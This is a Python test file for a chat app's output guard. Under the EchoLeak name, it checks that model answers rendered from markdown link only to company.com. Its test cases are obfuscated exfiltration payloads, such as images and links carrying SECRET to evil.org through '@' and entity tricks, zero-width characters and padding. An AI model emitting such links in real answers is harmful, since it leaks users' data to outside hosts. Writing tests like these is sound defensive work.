"""D10, EchoLeak: an answer that was told to link elsewhere has no such link on the page; the check costs no time."""

import re
import time
from html import unescape
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatapp.conversations.markdown import render_markdown
from chatapp.moderation.checks.schema import build_checks
from chatapp.moderation.guard import OutputGuard
from chatapp.moderation.policy import decide

CHECKS = build_checks([{"kind": "links", "stage": "output", "action": "mask", "hosts": ["company.com"]}])
_HREF = re.compile(r'href="([^"#][^"]*)"')
_OWN = re.compile(r"(?:.*\.)?company\.com(?:'s)?[\W_]*")
PIECES = (
    *(
        "https://",
        "http:",
        "//",
        "/",
        "\\",
        "company.com",
        "evil.org",
        "@",
        ":",
        ".",
        "www.",
        "mailto:a",
        "&#47;",
        "&sol;",
    ),
    *(
        "&colon;",
        "[a](",
        "![a](",
        "](",
        ")",
        "<",
        ">",
        "(",
        "]",
        "\r",
        "\u200b",
        " ",
        "\n",
        "`",
        '"',
        "'",
        ",",
        "*",
        "_",
    ),
    *("\u3002", "%2e", "?q=", "#", "h", "s", "x", "[1]", "\\@", "\\.", "\u00ad", "\ufeff", "&", ";", "|"),
)


def foreign_links(text: str) -> list[str]:
    hosts = map(host_of, _HREF.findall(render_markdown(text, message_id="m")))
    return [host for host in hosts if host and not _OWN.fullmatch(host)]


def host_of(url: str) -> str:
    """As a browser finds it, with what no host can end with."""
    scheme, _, rest = unescape(url).lower().partition(":")
    if scheme == "mailto":
        return unquote(rest).partition("?")[0].rpartition("@")[2] if "@" in unquote(rest).strip("@") else ""
    rest = rest.lstrip("/\\")
    authority = re.split(r"[/?#\\]", rest, maxsplit=1)[0]
    return re.sub(r":\d*$", "", unquote(authority).rpartition("@")[2]).replace("\u3002", ".")


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.org/?q=SECRET)",
        "[x](https://company.com\\@evil.org/?q=SECRET)",
        "[x](<https://company.com)@evil.org/?q=SECRET>)",
        "[x](&#104;ttps:&#47;&sol;evil.org/?q=SECRET)",
        "<https://evil.org/?q=SECRET>",
        "<https://company.com&sol;@evil.org/?q=SECRET>",
        "<evil@evil.org>",
        "[x](<https://company.com @evil.org/?q=SECRET>)",
        "[x](<https://company.com" + " " * 300 + "@evil.org/?q=SECRET>)",
        "[x](https://company.com>@evil.org/?q=SECRET)",
        '[x](https://company.com".evil.org/?q=SECRET)',
        "[x](ht\u200btps:/\u200b/evil.org/?q=SECRET)",
    ],
)
def test_d10_no_link_to_another_host_is_on_the_page(text: str) -> None:
    assert foreign_links(text) or text.startswith("!")
    assert foreign_links(decide(CHECKS, text).text) == []


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_d10_whatever_is_written_no_link_to_another_host_is_on_the_page(text: str) -> None:
    assert foreign_links(decide(CHECKS, text).text) == []


@pytest.mark.parametrize("piece", ["https://company.com/", "//", "](", "http:", "\\", "&#47;", "a@", "www.", "[1]("])
def test_c12_hostile_text_costs_no_time(piece: str) -> None:
    """In pieces, as it streams: 5,000 characters of the same beginnings over and over."""
    guard = OutputGuard(CHECKS)
    begun = time.process_time()
    for _ in range(5_000 // len(piece)):
        guard.feed(piece)
    guard.finish()
    assert time.process_time() - begun < 3
